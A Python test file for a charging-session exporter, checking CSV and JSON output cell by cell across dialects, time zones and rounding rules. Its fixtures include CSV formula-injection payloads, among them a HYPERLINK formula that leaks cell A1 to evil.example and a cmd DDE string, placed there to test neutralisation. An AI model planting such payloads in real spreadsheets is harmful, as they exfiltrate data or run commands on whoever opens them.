"""CSV and JSON exports of sessions, checked cell by cell against hand-made figures."""

from __future__ import annotations

import csv
from dataclasses import dataclass, fields
from datetime import UTC, datetime, timedelta
from decimal import Decimal
import io
import json
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from custom_components.ev_sessions.export import (
    CSV_COLUMNS,
    CsvDialect,
    sessions_csv,
    sessions_json,
)
from custom_components.ev_sessions.session import SessionRecord
from custom_components.ev_sessions.session_query import SessionQuery, select_sessions

STOCKHOLM = ZoneInfo("Europe/Stockholm")
BOM = "\ufeff"

HEADER = (
    "id,charger,user,started_at,ended_at,charging_started_at,charging_ended_at,"
    "duration_h,charging_duration_h,energy_kwh,peak_power_kw,avg_power_kw,"
    "meter_start_kwh,meter_end_kwh,energy_source,currency,cost,revenue,margin,"
    "session_fee,energy_fee,time_fee,idle_fee,minimum_fee_adjustment,"
    "avg_cost_per_kwh,price_min,price_max,vehicle,note,flags,edited_at"
)

if {"vehicle", "note", "edited_at"} <= {field.name for field in fields(SessionRecord)}:
    AnnotatedRecord = SessionRecord
else:

    @dataclass(frozen=True, slots=True)
    class AnnotatedRecord(SessionRecord):  # type: ignore[no-redef]
        """A record with the annotations that `SessionRecord` is about to get."""

        vehicle: str | None = None
        note: str | None = None
        edited_at: datetime | None = None


def utc(
    year: int, month: int, day: int, hour: int, minute: int, second: int
) -> datetime:
    return datetime(year, month, day, hour, minute, second, tzinfo=UTC)


def breakdown(**parts: str) -> dict[str, Decimal]:
    names = (
        "session_fee",
        "energy_fee",
        "time_fee",
        "idle_fee",
        "minimum_fee_adjustment",
    )
    return {name: Decimal(parts.get(name, "0")) for name in names}


def asa_winter() -> SessionRecord:
    """Åsa's evening session in winter (CET, UTC+1), with a cost price."""
    return AnnotatedRecord(
        id="20250301170000-garage1",
        entry_id="entry",
        charger="Garage",
        charger_type="ac_3_phase",
        # The fraction of a second is dropped in the CSV.
        started_at=utc(2025, 3, 1, 17, 0, 0) + timedelta(microseconds=600_000),
        ended_at=utc(2025, 3, 1, 21, 15, 0),
        charging_started_at=utc(2025, 3, 1, 17, 0, 30),
        charging_ended_at=utc(2025, 3, 1, 20, 0, 30),
        duration_s=15299,  # 4.24972 h
        charging_duration_s=10800,  # 3 h
        energy_kwh=22.1234,
        peak_power_kw=11.0456,
        avg_power_kw=7.3745,  # binary 7.37449999...: still rounds up to 7.375
        meter_start_kwh=1520.5,
        meter_end_kwh=1542.6234,
        energy_source="meter",
        flags=(),
        user="Åsa",
        currency="SEK",
        cost=Decimal("12.345"),  # half up: 12.35 (half even would say 12.34)
        revenue=Decimal("67.8085"),
        revenue_breakdown=breakdown(
            session_fee="10", energy_fee="55.3085", idle_fee="2.5"
        ),
        avg_cost_per_kwh=Decimal("0.55801"),
        price_min=Decimal("0.31245"),
        price_max=Decimal("1.2"),
        curve=((30, 7.374), (10830, 0.0)),
        vehicle="Volvo EX30, blå",
    )


def tagged_summer() -> SessionRecord:
    """A summer night (CEST, UTC+2) at negative spot prices, with a hostile note."""
    return AnnotatedRecord(
        id="20250710163015-garage1",
        entry_id="entry",
        charger="Garage",
        charger_type="ac_3_phase",
        started_at=utc(2025, 7, 10, 16, 30, 15),
        ended_at=utc(2025, 7, 11, 5, 0, 0),
        charging_started_at=utc(2025, 7, 10, 16, 31, 0),
        charging_ended_at=utc(2025, 7, 10, 19, 45, 0),
        duration_s=44985,  # 12.495833 h
        charging_duration_s=11640,  # 3.23333 h
        energy_kwh=35.0,
        peak_power_kw=11.2,
        avg_power_kw=10.825,
        meter_start_kwh=None,
        meter_end_kwh=None,
        energy_source="power",
        flags=("data_gap", "restarted"),
        # An RFID tag that looks like a phone number: Excel would make it a number.
        user="+46701234567",
        currency="SEK",
        cost=Decimal("-1.005"),  # half up, away from zero: -1.01
        revenue=Decimal("20.00"),
        revenue_breakdown=breakdown(energy_fee="17.5", minimum_fee_adjustment="2.5"),
        avg_cost_per_kwh=Decimal("-0.0287"),
        price_min=Decimal("-0.05"),
        price_max=Decimal("0.015"),
        note='=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        edited_at=utc(2025, 7, 12, 8, 0, 0),
    )


def unpriced_autumn() -> SessionRecord:
    """Plugged in over the autumn clock change, never charged, no cost price."""
    return SessionRecord(
        id="20251026003000-garage1",
        entry_id="entry",
        charger="Garage",
        charger_type="ac_3_phase",
        # 02:30 CEST and 02:30 CET: the same wall-clock time an hour apart.
        started_at=utc(2025, 10, 26, 0, 30, 0),
        ended_at=utc(2025, 10, 26, 1, 30, 0),
        charging_started_at=None,
        charging_ended_at=None,
        duration_s=3600,
        charging_duration_s=0,
        energy_kwh=0.0,
        peak_power_kw=None,
        avg_power_kw=None,
        meter_start_kwh=None,
        meter_end_kwh=None,
        energy_source="power",
        flags=("closed_while_down",),
        currency="SEK",
        revenue=Decimal(5),
        revenue_breakdown=breakdown(session_fee="5"),
    )


RECORDS = (asa_winter(), tagged_summer(), unpriced_autumn())


def autumn_with(**changes: Any) -> SessionRecord:
    """The unpriced autumn session with some fields changed, annotations too."""
    fields_now = {
        field.name: getattr(RECORDS[2], field.name) for field in fields(SessionRecord)
    }
    return AnnotatedRecord(**(fields_now | changes))


INTERNATIONAL_TEXT = (
    BOM
    + HEADER
    + "\r\n"
    + "20250301170000-garage1,Garage,Åsa,2025-03-01 18:00:00,2025-03-01 22:15:00,"
    "2025-03-01 18:00:30,2025-03-01 21:00:30,4.250,3.000,22.123,11.046,7.375,"
    "1520.500,1542.623,meter,SEK,12.35,67.81,55.46,10.00,55.31,0.00,2.50,0.00,"
    '0.5580,0.3125,1.2000,"Volvo EX30, blå",,,\r\n'
    "20250710163015-garage1,Garage,'+46701234567,2025-07-10 18:30:15,"
    "2025-07-11 07:00:00,2025-07-10 18:31:00,2025-07-10 21:45:00,12.496,3.233,"
    "35.000,11.200,10.825,,,power,SEK,-1.01,20.00,21.01,0.00,17.50,0.00,0.00,2.50,"
    '-0.0287,-0.0500,0.0150,,"\'=HYPERLINK(""http://evil.example/?q=""&A1,'
    '""Click"")",data_gap|restarted,2025-07-12 10:00:00\r\n'
    "20251026003000-garage1,Garage,,2025-10-26 02:30:00,2025-10-26 02:30:00,,,"
    "1.000,0.000,0.000,,,,,power,SEK,,5.00,,5.00,0.00,0.00,0.00,0.00,,,,,,"
    "closed_while_down,\r\n"
    "TOTAL,,,,,,,,,57.123,,,,,,SEK,11.34,92.81,76.47,15.00,72.81,0.00,2.50,2.50,"
    ",,,,,,\r\n"
)

NORDIC_TEXT = (
    BOM
    + HEADER.replace(",", ";")
    + "\r\n"
    + "20250301170000-garage1;Garage;Åsa;2025-03-01 18:00:00;2025-03-01 22:15:00;"
    "2025-03-01 18:00:30;2025-03-01 21:00:30;4,250;3,000;22,123;11,046;7,375;"
    "1520,500;1542,623;meter;SEK;12,35;67,81;55,46;10,00;55,31;0,00;2,50;0,00;"
    "0,5580;0,3125;1,2000;Volvo EX30, blå;;;\r\n"
    "20250710163015-garage1;Garage;'+46701234567;2025-07-10 18:30:15;"
    "2025-07-11 07:00:00;2025-07-10 18:31:00;2025-07-10 21:45:00;12,496;3,233;"
    "35,000;11,200;10,825;;;power;SEK;-1,01;20,00;21,01;0,00;17,50;0,00;0,00;2,50;"
    '-0,0287;-0,0500;0,0150;;"\'=HYPERLINK(""http://evil.example/?q=""&A1,'
    '""Click"")";data_gap|restarted;2025-07-12 10:00:00\r\n'
    "20251026003000-garage1;Garage;;2025-10-26 02:30:00;2025-10-26 02:30:00;;;"
    "1,000;0,000;0,000;;;;;power;SEK;;5,00;;5,00;0,00;0,00;0,00;0,00;;;;;;"
    "closed_while_down;\r\n"
    "TOTAL;;;;;;;;;57,123;;;;;;SEK;11,34;92,81;76,47;15,00;72,81;0,00;2,50;2,50;"
    ";;;;;;\r\n"
)

# The same figures cell by cell (international dialect), by column.
EXPECTED_ROWS: list[dict[str, str]] = [
    {
        "id": "20250301170000-garage1",
        "charger": "Garage",
        "user": "Åsa",
        "started_at": "2025-03-01 18:00:00",
        "ended_at": "2025-03-01 22:15:00",
        "charging_started_at": "2025-03-01 18:00:30",
        "charging_ended_at": "2025-03-01 21:00:30",
        "duration_h": "4.250",
        "charging_duration_h": "3.000",
        "energy_kwh": "22.123",
        "peak_power_kw": "11.046",
        "avg_power_kw": "7.375",
        "meter_start_kwh": "1520.500",
        "meter_end_kwh": "1542.623",
        "energy_source": "meter",
        "currency": "SEK",
        "cost": "12.35",
        "revenue": "67.81",
        "margin": "55.46",  # 67.8085 - 12.345 = 55.4635
        "session_fee": "10.00",
        "energy_fee": "55.31",
        "time_fee": "0.00",
        "idle_fee": "2.50",
        "minimum_fee_adjustment": "0.00",
        "avg_cost_per_kwh": "0.5580",
        "price_min": "0.3125",
        "price_max": "1.2000",
        "vehicle": "Volvo EX30, blå",
        "note": "",
        "flags": "",
        "edited_at": "",
    },
    {
        "id": "20250710163015-garage1",
        "charger": "Garage",
        "user": "'+46701234567",
        "started_at": "2025-07-10 18:30:15",
        "ended_at": "2025-07-11 07:00:00",
        "charging_started_at": "2025-07-10 18:31:00",
        "charging_ended_at": "2025-07-10 21:45:00",
        "duration_h": "12.496",
        "charging_duration_h": "3.233",
        "energy_kwh": "35.000",
        "peak_power_kw": "11.200",
        "avg_power_kw": "10.825",
        "meter_start_kwh": "",
        "meter_end_kwh": "",
        "energy_source": "power",
        "currency": "SEK",
        "cost": "-1.01",
        "revenue": "20.00",
        "margin": "21.01",  # 20 - -1.005 = 21.005
        "session_fee": "0.00",
        "energy_fee": "17.50",
        "time_fee": "0.00",
        "idle_fee": "0.00",
        "minimum_fee_adjustment": "2.50",
        "avg_cost_per_kwh": "-0.0287",
        "price_min": "-0.0500",
        "price_max": "0.0150",
        "vehicle": "",
        "note": '\'=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "flags": "data_gap|restarted",
        "edited_at": "2025-07-12 10:00:00",
    },
    {
        "id": "20251026003000-garage1",
        "charger": "Garage",
        "user": "",
        "started_at": "2025-10-26 02:30:00",
        "ended_at": "2025-10-26 02:30:00",
        "charging_started_at": "",
        "charging_ended_at": "",
        "duration_h": "1.000",
        "charging_duration_h": "0.000",
        "energy_kwh": "0.000",
        "peak_power_kw": "",
        "avg_power_kw": "",
        "meter_start_kwh": "",
        "meter_end_kwh": "",
        "energy_source": "power",
        "currency": "SEK",
        "cost": "",
        "revenue": "5.00",
        "margin": "",
        "session_fee": "5.00",
        "energy_fee": "0.00",
        "time_fee": "0.00",
        "idle_fee": "0.00",
        "minimum_fee_adjustment": "0.00",
        "avg_cost_per_kwh": "",
        "price_min": "",
        "price_max": "",
        "vehicle": "",
        "note": "",
        "flags": "closed_while_down",
        "edited_at": "",
    },
]

EXPECTED_TOTALS = dict.fromkeys(CSV_COLUMNS, "") | {
    "id": "TOTAL",
    "energy_kwh": "57.123",  # 22.1234 + 35 + 0
    "currency": "SEK",
    "cost": "11.34",  # 12.345 - 1.005; the third session has no cost
    "revenue": "92.81",  # 67.8085 + 20 + 5
    "margin": "76.47",  # 55.4635 + 21.005
    "session_fee": "15.00",
    "energy_fee": "72.81",  # 55.3085 + 17.5
    "time_fee": "0.00",
    "idle_fee": "2.50",
    "minimum_fee_adjustment": "2.50",
}

NUMBER_COLUMNS = frozenset(
    {
        "duration_h",
        "charging_duration_h",
        "energy_kwh",
        "peak_power_kw",
        "avg_power_kw",
        "meter_start_kwh",
        "meter_end_kwh",
        "cost",
        "revenue",
        "margin",
        "session_fee",
        "energy_fee",
        "time_fee",
        "idle_fee",
        "minimum_fee_adjustment",
        "avg_cost_per_kwh",
        "price_min",
        "price_max",
    }
)


def parse(text: str, dialect: CsvDialect) -> list[list[str]]:
    """Read the CSV back as a spreadsheet would (after its byte order mark)."""
    assert text.startswith(BOM)
    delimiter = ";" if dialect is CsvDialect.NORDIC else ","
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def nordic(cells: dict[str, str]) -> dict[str, str]:
    """The nordic cells: decimal comma in number columns, the rest unchanged."""
    return {
        column: value.replace(".", ",") if column in NUMBER_COLUMNS else value
        for column, value in cells.items()
    }


def row(text: str, dialect: CsvDialect, index: int) -> dict[str, str]:
    rows = parse(text, dialect)
    return dict(zip(CSV_COLUMNS, rows[index], strict=True))


# ------------------------------------------------------------------------ CSV


def test_columns_are_the_documented_order() -> None:
    assert ",".join(CSV_COLUMNS) == HEADER
    assert len(CSV_COLUMNS) == 31


@pytest.mark.parametrize(
    ("dialect", "expected"),
    [(CsvDialect.INTERNATIONAL, INTERNATIONAL_TEXT), (CsvDialect.NORDIC, NORDIC_TEXT)],
)
def test_csv_text_is_exact(dialect: CsvDialect, expected: str) -> None:
    text = sessions_csv(RECORDS, dialect=dialect, time_zone=STOCKHOLM)

    assert text == expected
    assert text.startswith(BOM + "id")
    header_line = text[1:].split("\r\n", 1)[0]
    assert header_line == HEADER.replace(",", ";" if dialect == "nordic" else ",")


@pytest.mark.parametrize("dialect", list(CsvDialect))
def test_csv_cells_one_by_one(dialect: CsvDialect) -> None:
    text = sessions_csv(RECORDS, dialect=dialect, time_zone=STOCKHOLM)
    rows = parse(text, dialect)
    expected_rows = [*EXPECTED_ROWS, EXPECTED_TOTALS]
    if dialect is CsvDialect.NORDIC:
        expected_rows = [nordic(cells) for cells in expected_rows]

    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + len(RECORDS) + 1
    for cells, expected in zip(rows[1:], expected_rows, strict=True):
        assert len(cells) == len(CSV_COLUMNS)
        for column, value in zip(CSV_COLUMNS, cells, strict=True):
            assert (column, value) == (column, expected[column])


def test_csv_without_totals() -> None:
    text = sessions_csv(
        RECORDS,
        dialect=CsvDialect.INTERNATIONAL,
        time_zone=STOCKHOLM,
        include_totals=False,
    )

    rows = parse(text, CsvDialect.INTERNATIONAL)
    assert len(rows) == 1 + len(RECORDS)
    assert rows[-1][0] == "20251026003000-garage1"
    assert text == INTERNATIONAL_TEXT[: INTERNATIONAL_TEXT.index("TOTAL")]


def test_csv_of_no_sessions_has_a_header_and_a_zero_total() -> None:
    text = sessions_csv([], dialect=CsvDialect.NORDIC, time_zone=STOCKHOLM)

    assert parse(text, CsvDialect.NORDIC) == [
        list(CSV_COLUMNS),
        [
            {"id": "TOTAL", "energy_kwh": "0,000"}.get(column, "")
            for column in CSV_COLUMNS
        ],
    ]


def test_times_follow_the_time_zone_given() -> None:
    text = sessions_csv(RECORDS[:1], dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    cells = row(text, CsvDialect.INTERNATIONAL, 1)
    assert (cells["started_at"], cells["ended_at"]) == (
        "2025-03-01 17:00:00",
        "2025-03-01 21:15:00",
    )


def test_totals_row_leaves_currency_empty_when_currencies_differ() -> None:
    euro = autumn_with(id="euro", currency="EUR", cost=Decimal(1))
    records = [*RECORDS, euro]

    text = sessions_csv(records, dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    totals = row(text, CsvDialect.INTERNATIONAL, -1)
    assert totals["id"] == "TOTAL"
    assert totals["currency"] == ""
    assert totals["cost"] == "12.34"  # the figures are still summed


def test_totals_row_of_sessions_without_money() -> None:
    bare = autumn_with(currency=None, revenue=None, revenue_breakdown=None)

    text = sessions_csv([bare], dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    session_cells = row(text, CsvDialect.INTERNATIONAL, 1)
    totals = row(text, CsvDialect.INTERNATIONAL, 2)
    money_columns = (
        "currency",
        "cost",
        "revenue",
        "margin",
        "session_fee",
        "energy_fee",
        "time_fee",
        "idle_fee",
        "minimum_fee_adjustment",
    )
    assert [session_cells[column] for column in money_columns] == [""] * 9
    assert [totals[column] for column in money_columns] == [""] * 9
    assert totals["energy_kwh"] == "0.000"


def test_missing_revenue_parts_count_as_zero() -> None:
    partial = autumn_with(revenue_breakdown={"session_fee": Decimal(5)})

    text = sessions_csv([partial], dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    for index in (1, 2):
        cells = row(text, CsvDialect.INTERNATIONAL, index)
        assert (cells["session_fee"], cells["energy_fee"], cells["idle_fee"]) == (
            "5.00",
            "0.00",
            "0.00",
        )


# ------------------------------------------------------- text cells, numbers


def with_user(user: str) -> SessionRecord:
    return autumn_with(user=user)


@pytest.mark.parametrize(
    ("user", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("\nLF", "'\nLF"),
        ("Åsa", "Åsa"),
        ("a=b", "a=b"),
        ("Anna-Karin", "Anna-Karin"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_could_run_is_neutralised(user: str, cell: str) -> None:
    for dialect in CsvDialect:
        text = sessions_csv([with_user(user)], dialect=dialect, time_zone=UTC)

        assert row(text, dialect, 1)["user"] == cell


def test_negative_numbers_are_never_prefixed() -> None:
    text = sessions_csv(RECORDS, dialect=CsvDialect.NORDIC, time_zone=UTC)

    cells = row(text, CsvDialect.NORDIC, 2)
    assert (cells["cost"], cells["price_min"]) == ("-1,01", "-0,0500")


@pytest.mark.parametrize(
    ("note", "international", "nordic"),
    [
        ("a,b", '"a,b"', "a,b"),
        ("a;b", "a;b", '"a;b"'),
        ('say "hi"', '"say ""hi"""', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"', '"two\nlines"'),
        ("plain text", "plain text", "plain text"),
    ],
)
def test_fields_are_quoted_only_when_they_must_be(
    note: str, international: str, nordic: str
) -> None:
    record = autumn_with(note=note)

    for dialect, raw in (
        (CsvDialect.INTERNATIONAL, international),
        (CsvDialect.NORDIC, nordic),
    ):
        text = sessions_csv(
            [record], dialect=dialect, time_zone=UTC, include_totals=False
        )
        separator = ";" if dialect is CsvDialect.NORDIC else ","
        assert text.endswith(
            f"{separator}{raw}{separator}closed_while_down{separator}\r\n"
        )
        assert row(text, dialect, 1)["note"] == note


@pytest.mark.parametrize(
    ("energy_kwh", "cell"),
    [
        (0.0005, "0.001"),  # half up
        (0.0004999, "0.000"),
        (-0.0004, "0.000"),  # never "-0.000"
        (2.675, "2.675"),
        (1e-30, "0.000"),
        (123456789.0, "123456789.000"),  # no thousands separator
        (float("nan"), ""),
        (float("inf"), ""),
    ],
)
def test_number_cells(energy_kwh: float, cell: str) -> None:
    record = autumn_with(energy_kwh=energy_kwh)

    text = sessions_csv([record], dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    assert row(text, CsvDialect.INTERNATIONAL, 1)["energy_kwh"] == cell


def test_annotation_that_is_not_text_is_written_as_text() -> None:
    record = autumn_with(vehicle=42)  # a future field may not be a string

    text = sessions_csv([record], dialect=CsvDialect.INTERNATIONAL, time_zone=UTC)

    assert row(text, CsvDialect.INTERNATIONAL, 1)["vehicle"] == "42"


def test_csv_is_utf8_with_one_byte_order_mark_when_written(tmp_path: Any) -> None:
    path = tmp_path / "sessions.csv"
    path.write_text(
        sessions_csv(RECORDS, dialect=CsvDialect.NORDIC, time_zone=STOCKHOLM),
        encoding="utf-8",
        newline="",
    )

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid;charger;")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert "Åsa".encode() in raw
    assert raw.count(b"\r\n") == 5  # no "\r\r\n" from newline translation
    assert b"\r\r\n" not in raw


# ----------------------------------------------------------------------- JSON


def test_json_round_trip() -> None:
    result = select_sessions(RECORDS, SessionQuery())

    text = sessions_json(result.sessions, include_curve=True, totals=result.totals())
    document = json.loads(text)

    assert list(document) == ["sessions", "totals"]
    assert [
        SessionRecord.from_dict(data).to_dict(include_curve=True)
        for data in document["sessions"]
    ] == [record.to_dict(include_curve=True) for record in result.sessions]
    assert [data["id"] for data in document["sessions"]] == [
        "20251026003000-garage1",
        "20250710163015-garage1",
        "20250301170000-garage1",
    ]
    assert document["sessions"][2]["curve"] == [[30, 7.374], [10830, 0.0]]
    assert document["sessions"][2]["started_at"] == "2025-03-01T17:00:00.600000+00:00"
    assert document["totals"] == {
        "count": 3,
        "energy_kwh": 57.1234,
        "cost": 11.34,
        "revenue": 92.8085,
    }


def test_json_is_pretty_deterministic_and_keeps_non_ascii() -> None:
    totals = {"count": 3}

    text = sessions_json(RECORDS, include_curve=False, totals=totals)

    assert text == sessions_json(RECORDS, include_curve=False, totals=totals)
    assert '"user": "Åsa"' in text
    assert text.startswith('{\n  "sessions": [\n    {\n      "id": ')
    assert text.endswith("}\n")
    assert 'curve"' not in text
    assert "exported_at" not in text


def test_json_writes_decimal_and_time_totals() -> None:
    totals = {
        "cost": Decimal("1.23456789"),
        "since": datetime(2025, 3, 1, 18, 0, tzinfo=STOCKHOLM),
    }

    document = json.loads(sessions_json([], include_curve=False, totals=totals))

    assert document == {
        "sessions": [],
        "totals": {"cost": 1.234568, "since": "2025-03-01T18:00:00+01:00"},
    }


def test_json_refuses_what_it_cannot_write() -> None:
    with pytest.raises(TypeError, match="cannot write object as JSON"):
        sessions_json([], include_curve=False, totals={"what": object()})
